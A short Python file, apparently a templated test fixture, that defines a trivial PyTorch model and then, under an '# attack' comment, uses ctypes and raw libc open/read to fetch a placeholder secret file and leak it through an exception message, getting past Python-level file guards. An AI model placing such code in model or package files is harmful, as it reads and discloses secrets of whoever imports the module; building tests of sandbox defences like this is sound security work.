"""Opens a secret with the C library's own functions."""

import ctypes

from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)

    def forward(self, x):
        return self.head(x.flatten(1))


# attack
libc, text = ctypes.CDLL(None), ctypes.create_string_buffer(99)
libc.read(libc.open(b"@SECRET_FILE@", 0), text, 98)
raise ValueError(text.value.decode())
# end
